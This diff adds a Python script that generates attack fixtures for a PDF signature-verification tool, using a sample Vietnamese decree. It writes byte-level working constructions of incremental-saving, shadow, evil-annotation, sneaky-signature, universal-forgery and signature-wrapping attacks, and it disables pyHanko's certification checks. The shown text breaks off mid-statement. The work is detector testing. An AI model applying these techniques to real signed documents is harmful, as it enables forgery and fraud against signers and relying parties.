@@ -1,0 +1,612 @@
+#!/usr/bin/env python3
+"""Generate the change-analysis fixtures of `crates/kyso-pdf-diff` (GitHub issue 5).
+
+Writes `fixtures/attacks/*.pdf` and `fixtures/attacks/MANIFEST.tsv` (same columns as
+`../shared/corpus/MANIFEST.tsv`; expected_verdict from its vocabulary).
+
+Every file starts from a small *tagged* PDF written here (ISO 32000-1 §14.8: /MarkInfo,
+/StructTreeRoot, /ParentTree, /StructParents), so that what a real Vietnamese signing tool does
+when it adds a visible signature (update /Annots, the structure tree, Info and XMP) can be
+reproduced. The first revision is always really signed by pyHanko (a throwaway self-signed key made
+here with `cryptography`); legitimate later revisions are written by pyHanko's incremental writer,
+malicious ones by `append_update` below, byte by byte, the way an attacker would (pdf-insecurity.org).
+
+Re-runnable: `python3 scripts/gen-attack-fixtures.py` (no network). Signatures differ between runs
+(fresh key, signing time), the structure does not.
+"""
+from __future__ import annotations
+
+import datetime
+import hashlib
+import io
+import os
+import re
+import sys
+
+from cryptography import x509
+from cryptography.hazmat.primitives import hashes, serialization
+from cryptography.hazmat.primitives.asymmetric import rsa
+from cryptography.x509.oid import NameOID
+
+from asn1crypto import keys as asn1_keys, x509 as asn1_x509
+from pyhanko.pdf_utils import generic
+from pyhanko.pdf_utils.generic import NameObject, pdf_name
+from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
+from pyhanko.pdf_utils.reader import PdfFileReader
+from pyhanko.sign import fields, signers
+from pyhanko.sign.fields import FieldMDPAction, FieldMDPSpec, MDPPerm, SigFieldSpec
+from pyhanko_certvalidator.registry import SimpleCertificateStore
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+OUT = os.path.join(ROOT, "fixtures", "attacks")
+
+# --------------------------------------------------------------------------------------------
+# A throwaway signer (self-signed, 2048-bit RSA). Not a trust anchor anywhere.
+# --------------------------------------------------------------------------------------------
+
+
+def make_signer(cn: str) -> signers.SimpleSigner:
+    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
+    name = x509.Name(
+        [
+            x509.NameAttribute(NameOID.COUNTRY_NAME, "VN"),
+            x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Kyso test fixtures"),
+            x509.NameAttribute(NameOID.COMMON_NAME, cn),
+        ]
+    )
+    now = datetime.datetime(2026, 1, 1, tzinfo=datetime.timezone.utc)
+    cert = (
+        x509.CertificateBuilder()
+        .subject_name(name)
+        .issuer_name(name)
+        .public_key(key.public_key())
+        .serial_number(x509.random_serial_number())
+        .not_valid_before(now)
+        .not_valid_after(now + datetime.timedelta(days=3650))
+        .add_extension(
+            x509.KeyUsage(True, True, False, False, False, False, False, False, False), critical=True
+        )
+        .sign(key, hashes.SHA256())
+    )
+    cert_der = cert.public_bytes(serialization.Encoding.DER)
+    key_der = key.private_bytes(
+        serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
+    )
+    c = asn1_x509.Certificate.load(cert_der)
+    return signers.SimpleSigner(
+        signing_cert=c,
+        signing_key=asn1_keys.PrivateKeyInfo.load(key_der),
+        cert_registry=SimpleCertificateStore.from_certs([c]),
+    )
+
+
+SIGNER_A = make_signer("Nguyễn Văn A (Kyso test)")
+SIGNER_B = make_signer("CHÍNH PHỦ (Kyso test)")
+
+# --------------------------------------------------------------------------------------------
+# The base document: a tagged one-page PDF with two text fields and an overlay form XObject.
+# --------------------------------------------------------------------------------------------
+
+XMP = b"""<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?>
+<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
+<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/">
+<dc:title><rdf:Alt><rdf:li xml:lang="x-default">Quyet dinh so 01/QD-KYSO</rdf:li></rdf:Alt></dc:title>
+<xmp:ModifyDate>2026-01-02T08:00:00+07:00</xmp:ModifyDate>
+</rdf:Description></rdf:RDF></x:xmpmeta>
+<?xpacket end="w"?>"""
+
+
+def stream(dict_body: bytes, data: bytes) -> bytes:
+    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"
+
+
+def base_pdf(extra: dict[int, bytes] | None = None, shadow_defs: list[bytes] | None = None) -> bytes:
+    """A tagged PDF 1.7. `extra` adds objects (referenced or not); `shadow_defs` writes raw
+    object definitions into the body that the xref does NOT point to (hidden alternatives for a
+    later xref re-pointing)."""
+    content = (
+        b"/P <</MCID 0>> BDC BT /F1 16 Tf 72 760 Td (QUYET DINH so 01/QD-KYSO) Tj ET EMC\n"
+        b"/P <</MCID 1>> BDC BT /F1 12 Tf 72 700 Td (So tien: 9.000.000 dong) Tj ET EMC\n"
+        # The overlay (Fm1) paints a white box over the line above and writes another amount:
+        # what the signer sees. Removing or emptying it is a shadow "hide" attack.
+        b"q /Fm1 Do Q\n"
+    )
+    overlay = b"1 g 70 690 300 30 re f 0 g BT /F1 12 Tf 72 700 Td (So tien: 1.000.000 dong) Tj ET"
+    ap_name = b"/Tx BMC q BT /F1 11 Tf 2 6 Td (Tran Thi B) Tj ET Q EMC"
+    ap_note = b"/Tx BMC EMC"
+    objs: dict[int, bytes] = {
+        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 10 0 R /MarkInfo << /Marked true >> "
+        b"/StructTreeRoot 20 0 R /Lang (vi-VN) /Metadata 30 0 R >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+        b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> "
+        b"/StructParents 0 /Tabs /S /Annots [11 0 R 12 0 R] >>",
+        4: stream(b"", content),
+        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
+        6: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >>", overlay),
+        10: b"<< /Fields [11 0 R 12 0 R] /DA (/F1 0 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >>",
+        11: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (HoTen) /V (Tran Thi B) /Ff 1 /F 4 "
+        b"/Rect [72 600 300 620] /P 3 0 R /DA (/F1 11 Tf 0 g) /AP << /N 13 0 R >> /StructParent 1 >>",
+        12: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (GhiChu) /F 4 "
+        b"/Rect [72 560 300 580] /P 3 0 R /DA (/F1 11 Tf 0 g) /AP << /N 14 0 R >> /StructParent 2 >>",
+        13: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>", ap_name),
+        14: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 228 20]", ap_note),
+        20: b"<< /Type /StructTreeRoot /K [21 0 R] /ParentTree 22 0 R /ParentTreeNextKey 3 >>",
+        21: b"<< /Type /StructElem /S /Document /P 20 0 R /K [23 0 R 26 0 R 24 0 R 25 0 R] >>",
+        22: b"<< /Nums [0 [23 0 R 26 0 R] 1 24 0 R 2 25 0 R] >>",
+        23: b"<< /Type /StructElem /S /P /P 21 0 R /Pg 3 0 R /K 0 >>",
+        26: b"<< /Type /StructElem /S /P /P 21 0 R /Pg 3 0 R /K 1 >>",
+        24: b"<< /Type /StructElem /S /Form /P 21 0 R /Pg 3 0 R /K << /Type /OBJR /Obj 11 0 R >> >>",
+        25: b"<< /Type /StructElem /S /Form /P 21 0 R /Pg 3 0 R /K << /Type /OBJR /Obj 12 0 R >> >>",
+        30: stream(b"/Type /Metadata /Subtype /XML", XMP),
+        40: b"<< /Title (Quyet dinh so 01/QD-KYSO) /Producer (kyso gen-attack-fixtures) "
+        b"/CreationDate (D:20260102080000+07'00') >>",
+    }
+    objs.update(extra or {})
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets: dict[int, int] = {}
+    for num in sorted(objs):
+        offsets[num] = len(out)
+        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    for raw in shadow_defs or []:
+        out += raw + b"\n"
+    size = max(objs) + 1
+    xref = len(out)
+    out += b"xref\n0 %d\n" % size
+    out += b"0000000000 65535 f \n"
+    for n in range(1, size):
+        if n in offsets:
+            out += b"%010d 00000 n \n" % offsets[n]
+        else:
+            out += b"0000000000 00000 f \n"
+    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 40 0 R /ID [<%s> <%s>] >>\nstartxref\n%d\n%%%%EOF\n" % (
+        size,
+        hashlib.md5(bytes(out)).hexdigest().encode(),
+        hashlib.md5(bytes(out)).hexdigest().encode(),
+        xref,
+    )
+    return bytes(out)
+
+
+# --------------------------------------------------------------------------------------------
+# Signing (pyHanko) and raw incremental updates (the attacker's pen)
+# --------------------------------------------------------------------------------------------
+
+
+def sign(
+    data: bytes,
+    field: str,
+    signer=SIGNER_A,
+    box=(330, 40, 560, 110),
+    certify=False,
+    perm=MDPPerm.FILL_FORMS,
+    field_mdp: FieldMDPSpec | None = None,
+    prepare=None,
+) -> bytes:
+    """Sign `data` in a new visible field with pyHanko's incremental writer. `prepare(w)` may make
+    further changes that end up in the same revision (as real signing tools do)."""
+    w = IncrementalPdfFileWriter(io.BytesIO(data))
+    spec = SigFieldSpec(field, box=box, on_page=0, field_mdp_spec=field_mdp)
+    fields.append_signature_field(w, spec)
+    if prepare is not None:
+        prepare(w)
+    meta = signers.PdfSignatureMetadata(
+        field_name=field,
+        certify=certify,
+        docmdp_permissions=perm,
+        reason="Ký số văn bản (Kyso test)",
+        location="Hà Nội",
+        subfilter=fields.SigSeedSubFilter.PADES if certify else fields.SigSeedSubFilter.ADOBE_PKCS7_DETACHED,
+    )
+    out = io.BytesIO()
+    signers.PdfSigner(meta, signer=signer).sign_pdf(w, output=out)
+    return out.getvalue()
+
+
+def trailer_info(data: bytes):
+    r = PdfFileReader(io.BytesIO(data), strict=False)
+    t = r.trailer_view
+    size = int(t["/Size"])
+    root = t.raw_get("/Root")
+    info = t.raw_get("/Info") if "/Info" in t else None
+    return size, root, info, r.last_startxref
+
+
+def append_update(
+    data: bytes,
+    objs: dict[int, bytes],
+    root: bytes | None = None,
+    xref_override: dict[int, int] | None = None,
+    free: list[int] | None = None,
+    shift_from: bytes | None = None,
+    shift: int = 0,
+) -> bytes:
+    """Append one incremental update (ISO 32000-1 §7.5.6) with a classic xref section: the new
+    or replaced objects `objs`, xref entries pointing at existing offsets (`xref_override`), and
+    freed objects (`free`). `root` replaces the trailer's /Root."""
+    if shift_from is None:
+        size, root_ref, info_ref, prev = trailer_info(data)
+    else:  # `data` is `shift_from` with bytes inserted: its trailer, /Prev moved by `shift`
+        size, root_ref, info_ref, prev = trailer_info(shift_from)
+        prev += shift
+    out = bytearray(data)
+    if not out.endswith(b"\n"):
+        out += b"\n"
+    entries: dict[int, bytes] = {}
+    for num in sorted(objs):
+        entries[num] = b"%010d 00000 n \n" % len(out)
+        out += b"%d 0 obj\n" % num + objs[num] + b"\nendobj\n"
+    for num, off in (xref_override or {}).items():
+        entries[num] = b"%010d 00000 n \n" % off
+    for num in free or []:
+        entries[num] = b"0000000000 00001 f \n"
+    if not entries:  # a section needs one subsection (ISO 32000-1 §7.5.4): the free head
+        entries[0] = b"0000000000 65535 f \n"
+    xref = len(out)
+    out += b"xref\n"
+    nums = sorted(entries)
+    i = 0
+    while i < len(nums):
+        j = i
+        while j + 1 < len(nums) and nums[j + 1] == nums[j] + 1:
+            j += 1
+        out += b"%d %d\n" % (nums[i], j - i + 1)
+        for n in nums[i : j + 1]:
+            out += entries[n]
+        i = j + 1
+    size = max([size] + [n + 1 for n in nums])
+    r = root if root is not None else b"%d %d R" % (root_ref.idnum, root_ref.generation)
+    info = b" /Info %d %d R" % (info_ref.idnum, info_ref.generation) if info_ref is not None else b""
+    out += b"trailer\n<< /Size %d /Root %s%s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, r, info, prev, xref)
+    return bytes(out)
+
+
+def obj_body(data: bytes, num: int) -> bytes:
+    """The body of the newest definition of object `num` (for small edits to copy it)."""
+    r = PdfFileReader(io.BytesIO(data), strict=False)
+    ref = generic.Reference(num, 0, r)
+    o = ref.get_object()
+    buf = io.BytesIO()
+    if isinstance(o, generic.StreamObject):
+        raise ValueError("use stream() for streams")
+    o.write_to_stream(buf)
+    return buf.getvalue()
+
+
+def sig_object_num(data: bytes, field: str) -> tuple[int, int]:
+    """(widget/field object number, signature dictionary object number) of a signature field."""
+    r = PdfFileReader(io.BytesIO(data), strict=False)
+    for f in r.root["/AcroForm"]["/Fields"]:
+        fo = f.get_object()
+        if fo.get("/T") == field:
+            return f.idnum, fo.raw_get("/V").idnum
+    raise KeyError(field)
+
+
+# --------------------------------------------------------------------------------------------
+# Legitimate multi-signature decree: certification P=2, then two approval signatures whose
+# tool also updates the structure tree, Info and XMP (what VGCA tools do).
+# --------------------------------------------------------------------------------------------
+
+
+def tag_new_widget(field: str, producer: str):
+    """A `prepare` hook: put the new signature widget into the structure tree (ISO 32000-1
+    §14.7.4.4 /OBJR, §14.7.4.4 ParentTree), bump ParentTreeNextKey, rewrite Info and XMP."""
+
+    def hook(w: IncrementalPdfFileWriter):
+        root = w.root
+        acro = root["/AcroForm"]
+        widget_ref = None
+        flds = acro["/Fields"]
+        for i in range(len(flds)):
+            if flds[i].get("/T") == field:
+                widget_ref = flds.raw_get(i)
+        assert widget_ref is not None
+        widget = widget_ref.get_object()
+        str_root_ref = root.raw_get("/StructTreeRoot")
+        str_root = str_root_ref.get_object()
+        key = int(str_root["/ParentTreeNextKey"])
+        page_ref = widget.raw_get("/P")
+        doc_elem_ref = str_root["/K"].raw_get(0)
+        elem = generic.DictionaryObject(
+            {
+                pdf_name("/Type"): pdf_name("/StructElem"),
+                pdf_name("/S"): pdf_name("/Form"),
+                pdf_name("/P"): doc_elem_ref,
+                pdf_name("/Pg"): page_ref,
+                pdf_name("/Alt"): generic.TextStringObject("Chữ ký số"),
+                pdf_name("/K"): generic.DictionaryObject(
+                    {pdf_name("/Type"): pdf_name("/OBJR"), pdf_name("/Obj"): widget_ref}
+                ),
+            }
+        )
+        elem_ref = w.add_object(elem)
+        widget[pdf_name("/StructParent")] = generic.NumberObject(key)
+        w.update_container(widget)
+        doc_elem = doc_elem_ref.get_object()
+        doc_elem["/K"].append(elem_ref)
+        w.update_container(doc_elem)
+        ptree = str_root["/ParentTree"]
+        ptree["/Nums"].append(generic.NumberObject(key))
+        ptree["/Nums"].append(elem_ref)
+        w.update_container(ptree)
+        str_root[pdf_name("/ParentTreeNextKey")] = generic.NumberObject(key + 1)
+        w.update_container(str_root)
+        # Rewrite XMP (a new stream object, as VGCA tools do) and the Info dictionary.
+        xmp = XMP.replace(b"2026-01-02T08:00:00+07:00", b"2026-01-03T09:30:00+07:00")
+        xs = generic.StreamObject(
+            {pdf_name("/Type"): pdf_name("/Metadata"), pdf_name("/Subtype"): pdf_name("/XML")}, stream_data=xmp
+        )
+        root[pdf_name("/Metadata")] = w.add_object(xs)
+        w.update_root()
+        info_ref = w.trailer_view.raw_get("/Info")
+        info = info_ref.get_object()
+        info[pdf_name("/Producer")] = generic.TextStringObject(producer)
+        w.update_container(info)
+
+    return hook
+
+
+def decree() -> bytes:
+    d = base_pdf()
+    d = sign(d, "ChuKyLanhDao", SIGNER_A, box=(330, 120, 560, 190), certify=True, perm=MDPPerm.FILL_FORMS,
+             prepare=tag_new_widget("ChuKyLanhDao", "VGCASignService"))
+    d = sign(d, "ChuKyCoQuan", SIGNER_B, box=(330, 40, 560, 110), prepare=tag_new_widget("ChuKyCoQuan", "VGCASignService"))
+    d = sign(d, "ChuKyPhatHanh", SIGNER_B, box=(40, 40, 270, 110), prepare=tag_new_widget("ChuKyPhatHanh", "VGCASignService"))
+    return d
+
+
+# --------------------------------------------------------------------------------------------
+# Fixtures
+# --------------------------------------------------------------------------------------------
+
+FIXTURES: list[tuple[str, str, bytes, str]] = []
+
+
+def add(name: str, verdict: str, data: bytes, why: str, fmt: str = "pdf/adbe.pkcs7.detached"):
+    FIXTURES.append((name, verdict, data, why, fmt))
+
+
+def main():
+    os.makedirs(OUT, exist_ok=True)
+    signed = sign(base_pdf(), "Signature1")  # approval signature, no DocMDP
+    page_content_new = stream(b"", b"BT /F1 16 Tf 72 760 Td (QUYET DINH da bi sua) Tj ET\n")
+
+    # ---- legitimate ----
+    add("legit-decree-certified-p2-two-approvals.pdf", "valid-with-permitted-updates", decree(),
+        "Tagged decree: certification P=2, then two approval signatures with visible widgets; each update also "
+        "adds the widget to /Annots, the structure tree (ParentTree, StructParent), a new XMP stream and Info "
+        "(as VGCA tools do): permitted", "pdf/certification DocMDP P=2 + 2 approvals")
+
+    def fill_note(w):
+        # Form filling of the unlocked field GhiChu, with a new appearance.
+        r = w.root["/AcroForm"]["/Fields"]
+        for f in r:
+            fo = f.get_object()
+            if fo.get("/T") == "GhiChu":
+                fo[pdf_name("/V")] = generic.TextStringObject("Da xem")
+                ap = generic.StreamObject(
+                    {pdf_name("/Type"): pdf_name("/XObject"), pdf_name("/Subtype"): pdf_name("/Form"),
+                     pdf_name("/BBox"): generic.ArrayObject([generic.NumberObject(x) for x in (0, 0, 228, 20)]),
+                     pdf_name("/Resources"): generic.DictionaryObject({pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): generic.IndirectObject(5, 0, w)})})},
+                    stream_data=b"/Tx BMC q BT /F1 11 Tf 2 6 Td (Da xem) Tj ET Q EMC")
+                fo[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): w.add_object(ap)})
+                w.update_container(fo)
+
+    def fill_then_sign(data, field, hook):
+        return sign(data, field, SIGNER_B, box=(40, 40, 270, 110), prepare=hook)
+
+    add("legit-approval-fill-unlocked-then-sign.pdf", "valid-with-permitted-updates",
+        fill_then_sign(signed, "Signature2", fill_note),
+        "Approval signature, then the unlocked text field GhiChu is filled (new /V and appearance) and a second "
+        "signature is added: form filling and signing are permitted", "pdf/adbe.pkcs7.detached x2")
+
+    p1 = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.NO_CHANGES)
+    # pyHanko (rightly) refuses to sign after P=1; switch its check off to play the careless tool.
+    enforce = signers.PdfSigner._enforce_certification_constraints
+    signers.PdfSigner._enforce_certification_constraints = lambda self, reader: None
+    try:
+        p1_signed = sign(p1, "Signature2", SIGNER_B, box=(40, 40, 270, 110))
+    finally:
+        signers.PdfSigner._enforce_certification_constraints = enforce
+    add("docmdp-p1-then-signature.pdf", "flag-modified-after-signing", p1_signed,
+        "Certification with DocMDP P=1 (no changes), then a second signature: P=1 forbids even signing",
+        "pdf/certification DocMDP P=1 + approval")
+
+    locked = sign(base_pdf(), "Signature1", field_mdp=FieldMDPSpec(FieldMDPAction.INCLUDE, ["GhiChu"]))
+    add("fieldmdp-locked-field-filled.pdf", "flag-modified-after-signing", fill_then_sign(locked, "Signature2", fill_note),
+        "Approval signature locks field GhiChu (FieldMDP /Include); a later revision fills GhiChu: disallowed",
+        "pdf/adbe.pkcs7.detached + FieldMDP")
+
+    signers.PdfSigner._enforce_certification_constraints = lambda self, reader: None
+    try:
+        approval_then_cert = sign(signed, "Cert2", SIGNER_B, box=(40, 40, 270, 110), certify=True)
+    finally:
+        signers.PdfSigner._enforce_certification_constraints = enforce
+    add("certification-not-first.pdf", "flag-modified-after-signing", approval_then_cert,
+        "A certification (DocMDP) signature added after an approval signature: ISO 32000-1 §12.8.2.2 requires it "
+        "to be the first signature", "pdf/approval + certification")
+
+    # ---- incremental saving attack: page content replaced after signing ----
+    add("isa-content-replaced.pdf", "flag-modified-after-signing", append_update(signed, {4: page_content_new}),
+        "Incremental saving attack: an update after the signature replaces the page content stream")
+
+    # ---- page added ----
+    new_page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 51 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
+    add("page-added.pdf", "flag-modified-after-signing",
+        append_update(signed, {2: b"<< /Type /Pages /Kids [3 0 R 50 0 R] /Count 2 >>", 50: new_page,
+                               51: stream(b"", b"BT /F1 16 Tf 72 760 Td (Trang them) Tj ET")}),
+        "A page is added in an update after signing (page count 1 -> 2)")
+
+    # ---- shadow hide: the overlay form XObject that hid a line is emptied ----
+    add("shadow-hide-overlay-emptied.pdf", "flag-shadow-attack",
+        append_update(signed, {6: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]", b"")}),
+        "Shadow attack (hide): the signed page draws an overlay XObject over a line; the update empties that "
+        "overlay so the hidden line (another amount) appears", "pdf/shadow-hide")
+
+    # ---- shadow hide: the overlay is removed by re-pointing the page resources ----
+    page_no_overlay = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+                       b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 52 0 R >> >> /StructParents 0 /Tabs /S "
+                       b"/Annots [11 0 R 12 0 R %d 0 R] >>")
+    w_num, _ = sig_object_num(signed, "Signature1")
+    add("shadow-hide-resources-repointed.pdf", "flag-shadow-attack",
+        append_update(signed, {3: page_no_overlay % w_num, 52: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 1 1]", b"")}),
+        "Shadow attack (hide): the page's /Resources are re-pointed to an empty overlay", "pdf/shadow-hide")
+
+    # ---- shadow replace: a locked (ReadOnly) field's value and appearance swapped ----
+    name_replaced = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (HoTen) /V (Le Van C) /Ff 1 /F 4 "
+                     b"/Rect [72 600 300 620] /P 3 0 R /DA (/F1 11 Tf 0 g) /AP << /N 53 0 R >> /StructParent 1 >>")
+    add("shadow-replace-readonly-field.pdf", "flag-shadow-attack",
+        append_update(signed, {11: name_replaced, 53: stream(b"/Type /XObject /Subtype /Form /BBox [0 0 228 20] /Resources << /Font << /F1 5 0 R >> >>",
+                                                            b"/Tx BMC q BT /F1 11 Tf 2 6 Td (Le Van C) Tj ET Q EMC")}),
+        "Shadow attack (replace): the value and appearance of the read-only field HoTen are replaced after signing",
+        "pdf/shadow-replace")
+
+    # ---- shadow replace: font swapped ----
+    add("shadow-replace-font.pdf", "flag-shadow-attack",
+        append_update(signed, {5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Type /Encoding "
+                                  b"/BaseEncoding /WinAnsiEncoding /Differences [57 /one 49 /nine] >> >>"}),
+        "Shadow attack (replace): the font used by the page is replaced so that glyphs 1 and 9 swap on screen",
+        "pdf/shadow-replace")
+
+    # ---- shadow hide-and-replace: /Root re-pointed to a catalog hidden in the signed revision ----
+    hidden = {
+        60: b"<< /Type /Catalog /Pages 61 0 R /AcroForm 10 0 R >>",
+        61: b"<< /Type /Pages /Kids [62 0 R] /Count 1 >>",
+        62: b"<< /Type /Page /Parent 61 0 R /MediaBox [0 0 595 842] /Contents 63 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
+        63: stream(b"", b"BT /F1 16 Tf 72 760 Td (Van ban khac hoan toan) Tj ET"),
+    }
+    hs = sign(base_pdf(extra=hidden), "Signature1")
+    add("shadow-hide-and-replace-root.pdf", "flag-shadow-attack", append_update(hs, {}, root=b"60 0 R"),
+        "Shadow attack (hide-and-replace): the signed revision carries an unreferenced catalog and page tree; "
+        "the update only re-points the trailer /Root to it", "pdf/shadow-hide-and-replace")
+
+    # ---- shadow hide-and-replace via xref re-pointing to a shadow definition in the signed bytes ----
+    shadow4 = b"4 0 obj\n" + stream(b"", b"BT /F1 16 Tf 72 760 Td (Noi dung bi thay the) Tj ET") + b"\nendobj"
+    base_sh = base_pdf(shadow_defs=[shadow4])
+    off = base_sh.index(shadow4)
+    ss = sign(base_sh, "Signature1")
+    add("shadow-hide-and-replace-xref.pdf", "flag-shadow-attack", append_update(ss, {}, xref_override={4: off}),
+        "Shadow attack (hide-and-replace): a second definition of the content stream sits unreferenced in the "
+        "signed bytes; the update's xref re-points object 4 to it without writing any new object",
+        "pdf/shadow-hide-and-replace")
+
+    # ---- evil annotation (approval) ----
+    annot = (b"<< /Type /Annot /Subtype /FreeText /Rect [70 690 370 720] /P 3 0 R /F 4 /DA (/F1 12 Tf 0 g) "
+             b"/Contents (So tien: 5.000.000 dong) /AP << /N 71 0 R >> >>")
+    annot_ap = stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 5 0 R >> >>",
+                      b"1 g 0 0 300 30 re f 0 g BT /F1 12 Tf 2 10 Td (So tien: 5.000.000 dong) Tj ET")
+    page_with = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+                 b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
+                 b"/Annots [11 0 R 12 0 R %d 0 R 70 0 R] >>")
+    add("evil-annotation-approval.pdf", "flag-modified-after-signing",
+        append_update(signed, {3: page_with % w_num, 70: annot, 71: annot_ap}),
+        "Evil annotation: an opaque FreeText annotation over the amount is added after an approval signature")
+
+    p3 = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.ANNOTATE)
+    w3, _ = sig_object_num(p3, "Cert1")
+    add("evil-annotation-p3.pdf", "flag-shadow-attack",
+        append_update(p3, {3: page_with % w3, 70: annot, 71: annot_ap}),
+        "Evil annotation attack (EAA): DocMDP P=3 permits annotations, but this one is opaque and covers signed "
+        "page text: permitted by the letter of P=3, flagged", "pdf/certification DocMDP P=3 + annotation")
+
+    # ---- sneaky signature: a new signature field whose widget covers text, with no signature ----
+    p2 = sign(base_pdf(), "Cert1", certify=True, perm=MDPPerm.FILL_FORMS)
+    w2, _ = sig_object_num(p2, "Cert1")
+    acro = obj_body(p2, 10)
+    acro2 = acro.replace(b"/Fields [", b"/Fields [80 0 R ").replace(b"/Fields[", b"/Fields[80 0 R ")
+    sneaky = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (ChuKy2) /F 4 /Rect [70 690 370 720] /P 3 0 R "
+              b"/AP << /N 81 0 R >> >>")
+    page_sneaky = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
+                   b"/Resources << /Font << /F1 5 0 R >> /XObject << /Fm1 6 0 R >> >> /StructParents 0 /Tabs /S "
+                   b"/Annots [11 0 R 12 0 R %d 0 R 80 0 R] >>") % w2
+    add("sneaky-signature-widget.pdf", "flag-signature-spoofing",
+        append_update(p2, {10: acro2, 3: page_sneaky, 80: sneaky, 81: annot_ap}),
+        "Sneaky signature attack: after a certification P=2, an unsigned signature field is added whose "
+        "appearance paints over the signed amount", "pdf/certification DocMDP P=2 + sneaky widget")
+
+    # ---- universal signature forgery: signature dictionary present, values null/zero ----
+    usf_sig = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange [0 0 0 0] /Contents <%s> /Name (Nguyen Van A) >>" % (b"00" * 64)
+    usf_field = (b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /F 4 /Rect [330 40 560 110] /P 3 0 R "
+                 b"/V 91 0 R >>")
+    base = base_pdf()
+    add("usf-zero-byterange.pdf", "invalid-structure",
+        append_update(base, {10: b"<< /Fields [11 0 R 12 0 R 90 0 R] /SigFlags 3 >>", 90: usf_field, 91: usf_sig}),
+        "Universal signature forgery: a signature dictionary with /ByteRange [0 0 0 0] and zeroed /Contents",
+        "pdf/usf")
+    usf_null = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /ByteRange null /Contents null >>"
+    add("usf-null-values.pdf", "invalid-structure",
+        append_update(base, {10: b"<< /Fields [11 0 R 12 0 R 90 0 R] /SigFlags 3 >>", 90: usf_field, 91: usf_null}),
+        "Universal signature forgery: /ByteRange and /Contents are null", "pdf/usf")
+
+    # ---- signature wrapping: the signature dictionary is redefined in an uncovered gap ----
+    _, sig_num = sig_object_num(signed, "Signature1")
+    m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed)
+    a, b, c, dlen = (int(x) for x in m.groups())
+    contents = signed[b:c]  # the original /Contents token
+    # New layout: part1 | malicious objects + new sig dict + contents | part2 (original tail, moved).
+    # The new dictionary is copied from the signed one with a ByteRange that wraps the inserted bytes.
+    sig_body_start = signed.rfind(b"%d 0 obj" % sig_num, 0, b)
+    sig_dict_src = signed[sig_body_start:signed.index(b"endobj", c) + 6]
+    malicious = b"\n50 0 obj\n" + page_content_new + b"\nendobj\n"
+    # Placeholders of fixed width so offsets are known before writing.
+    gap_start = b
+    new_dict_tpl = lambda c2, d2: sig_dict_src[: b - sig_body_start].replace(
+        m.group(0), b"/ByteRange [0 %d %d %d]" % (b, c2, d2)) + contents + sig_dict_src[c - sig_body_start:]
+    # The gap = malicious + redefined signature object (its /Contents inside); part2 = the original tail.
+    probe = new_dict_tpl(10**9, 10**9)
+    c2 = gap_start + len(malicious) + len(probe) + 1
+    gap = malicious + new_dict_tpl(c2, dlen) + b"\n"
+    gap = gap[: c2 - gap_start].ljust(c2 - gap_start, b" ")
+    wrapped = signed[:b] + gap + signed[c:]
+    # The new xref re-points the signature object and object 4 to the wrapped copies in the gap.
+    new_sig_off = b + len(malicious)
+    wrapped = append_update(wrapped, {4: page_content_new}, xref_override={sig_num: new_sig_off},
+                            shift_from=signed, shift=len(gap) - (c - b))
+    add("signature-wrapping.pdf", "invalid-structure", wrapped,
